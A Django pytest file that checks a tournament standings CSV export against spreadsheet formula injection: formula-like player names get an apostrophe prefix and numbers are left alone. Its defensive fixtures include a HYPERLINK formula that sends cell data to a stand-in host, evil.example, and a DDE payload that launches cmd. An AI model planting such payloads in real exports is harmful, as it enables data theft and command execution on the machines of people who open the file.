"""standings.csv is opened in spreadsheets: a player name that starts like a formula is written
with a leading apostrophe (OWASP "CSV injection"), numbers stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from tests.tournaments.factories import PlayerFactory
from tests.tournaments.helpers import play_all, tournament_running
from tournaments.selectors import spreadsheet_safe

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAMES = [HYPERLINK, "-1+2", "+cmd", "@SUM(A1:A9)"]
SEMICOLON = "a;=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("-1+2", "'-1+2"),
        ("+1", "'+1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana-Marija", "Ana-Marija"),
        # a formula character after a separator some locale splits on (issue 19)
        ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
        ("a,+1", "a,'+1"),
        ("a\t@x", "a\t'@x"),
        ("a;-1;b", "a;'-1;b"),
        ("=a;=b", "'=a;'=b"),
        ("\t\tx", "'\t'\tx"),
        ("a; -1", "a; -1"),
        ("Smith, J.", "Smith, J."),
        ("", ""),
        (-3, -3),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_spreadsheet_safe_prefixes_only_formula_like_text(value, written):
    assert spreadsheet_safe(value) == written


@pytest.mark.django_db
def test_standings_csv_neutralises_formula_names_and_keeps_negative_numbers(org_api):
    players = [PlayerFactory(display_name=name, rating=1800.0 - i) for i, name in enumerate(NAMES)]
    pk = tournament_running(org_api, players, format="single_elimination")["id"]
    play_all(org_api, pk)

    response = org_api.get("tournaments:standing-csv", pk=pk, params={"header": "keys"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(row["player"] for row in rows) == sorted("'" + name for name in NAMES)
    diffs = [row["point_diff"] for row in rows]
    assert any(diff.startswith("-") for diff in diffs), diffs  # a loser's negative difference
    assert all(diff.lstrip("-").isdigit() for diff in diffs), diffs  # no apostrophe on numbers


@pytest.mark.django_db
def test_no_cell_starts_with_a_formula_where_excel_splits_on_semicolons(org_api):
    players = [PlayerFactory(display_name=SEMICOLON), PlayerFactory(display_name="Ana")]
    pk = tournament_running(org_api, players, format="single_elimination")["id"]
    play_all(org_api, pk)

    response = org_api.get("tournaments:standing-csv", pk=pk, params={"header": "keys"})
    text = response.content.decode()
    assert "a;'=cmd|' /C calc'!A0" in text
    for line in text.splitlines():
        for cell in line.split(";"):
            assert not cell.startswith(("=", "+", "@")), line


def test_spreadsheet_safe_examples():
    import doctest

    from tournaments import selectors

    assert doctest.testmod(selectors).failed == 0


@pytest.mark.django_db
def test_standings_csv_opens_in_excel_with_words_for_headings_and_names_intact(org_api):
    players = [PlayerFactory(display_name="Dragan Kovač"), PlayerFactory(display_name="Ана")]
    pk = tournament_running(org_api, players, format="single_elimination")["id"]
    play_all(org_api, pk)

    response = org_api.get("tournaments:standing-csv", pk=pk)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Section", "Rank", "Player", "Player id"]
    assert "Point difference" in rows[0] and "Sonneborn-Berger" in rows[0]
    assert {row[2] for row in rows[1:]} == {"Dragan Kovač", "Ана"}

    keys = org_api.get("tournaments:standing-csv", pk=pk, params={"header": "keys"}).content
    assert not keys.startswith(b"\xef\xbb\xbf") and keys.decode().startswith("section,rank,")
    refused = org_api.client.get(
        reverse("tournaments:standing-csv", kwargs={"pk": pk}), {"header": "x"}
    )
    assert refused.status_code == 400 and "header must be names or keys" in refused.json()["detail"]
